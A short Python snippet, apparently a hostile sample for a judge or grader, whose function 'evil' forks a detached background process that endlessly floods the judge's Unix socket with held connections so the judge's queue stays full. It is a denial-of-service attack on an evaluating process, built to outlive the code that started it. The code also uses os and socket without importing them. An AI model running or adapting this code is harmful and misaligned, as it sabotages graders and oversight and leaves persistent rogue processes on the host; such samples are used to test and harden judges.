"""Fills the queue at the judge's door and leaves a process behind that keeps it full.

Promise: C1
"""

import time
def evil(*args):
    place = door()
    if os.fork() == 0:
        os.setsid()
        held = []
        while True:
            one = socket.socket(socket.AF_UNIX)
            one.setblocking(False)
            try:
                one.connect(place)
                held.append(one)
            except OSError:
                time.sleep(0.001)
            del held[:-200]
    return 0
